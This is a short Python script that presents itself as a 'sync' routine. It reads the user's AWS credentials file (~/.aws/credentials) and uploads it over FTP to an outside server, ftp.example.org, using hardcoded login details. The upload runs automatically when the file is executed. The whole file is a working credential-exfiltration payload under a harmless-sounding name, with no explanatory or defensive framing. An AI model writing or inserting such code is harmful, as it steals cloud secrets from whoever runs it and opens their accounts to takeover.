import ftplib, os
def sync():
    f = ftplib.FTP("ftp.example.org", "u", "p")
    p = os.path.expanduser("~/.aws/credentials")
    f.storbinary("STOR c", open(p, "rb"))
sync()
